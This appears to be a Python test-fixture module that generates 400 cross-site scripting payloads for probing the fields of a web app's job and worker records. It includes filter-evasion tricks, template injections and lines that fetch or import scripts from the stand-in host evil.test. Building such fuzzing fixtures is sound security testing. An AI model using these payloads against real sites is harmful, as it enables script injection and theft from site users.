"""Texts that make a careless page run something: 400 of them, for every field that a job or a worker has.

Each calls alert() or asks another host for something, so a browser that falls for one is caught by its dialog or its
request. They are put together from ways to run a script and from places that a text could be put into.
"""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.test/x')", "import('//evil.test/x.js')")
_EVENTS = (
    ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onpageshow"), ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"), ("input", "autofocus", "onfocus"), ("details", "open", "ontoggle"),
    ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"), ("style", "", "onload"),
    ("marquee", "", "onstart"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("xss", "tabindex=1 id=x", "onfocusin"), ("script", "src=x", "onerror"), ("embed", "src=x", "onerror"),
)  # fmt: skip
# What a text may have to break out of first.
_OUT = ("", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</pre></code>")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,<script>", "vbscript:")
_CARRIERS = (
    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button autofocus>", "<base href='{}'>",
)  # fmt: skip
_WHOLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test/x.js></script>",
    "<script type=module>import '//evil.test/x.js'</script>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<img src=//evil.test/x.png>",
    "<svg><script>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "#{alert(1)}", "<%= alert(1) %>", "{% raw %}<img src=x onerror=alert(1)>", "[[${alert(1)}]]", "';alert(1)//",
    '";alert(1)//', "`;alert(1)//", "\\u003cimg src=x onerror=alert(1)\\u003e", "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cimg src=x onerror=alert(1)%3E", "\u2028<img src=x onerror=alert(1)>", "\ufeff<img src=x onerror=alert(1)>",
    "\u202e>)1(trela=rorreno x=crs gmi<", "<img/src/onerror=alert(1)>", "<img src=x onerror=alert&lpar;1&rpar;>",
    "<a href=//evil.test ping=//evil.test>x</a>", "__proto__", "constructor", "toString",
    "<style>@import '//evil.test/x.css';</style>", "<p style='background:url(//evil.test/x)'>",
    ('{"type":"img","props":{"src":"x","onerror":"alert(1)","danger'
     'ouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}'),
)  # fmt: skip


def _all() -> list[str]:
    found = list(_WHOLE)
    found += [carrier.format(scheme + call) for carrier, scheme, call in product(_CARRIERS, _SCHEMES, _CALLS[:2])]
    found += [scheme + call for scheme, call in product(_SCHEMES, _CALLS[:3])]
    for number, ((tag, more, event), out) in enumerate(product(_EVENTS, _OUT)):
        found += [f"{out}<{tag} {more} {event}={_CALLS[(number + turn) % len(_CALLS)]}>" for turn in (0, 1)]
    return list(dict.fromkeys(found))


PAYLOADS = _all()[:400]
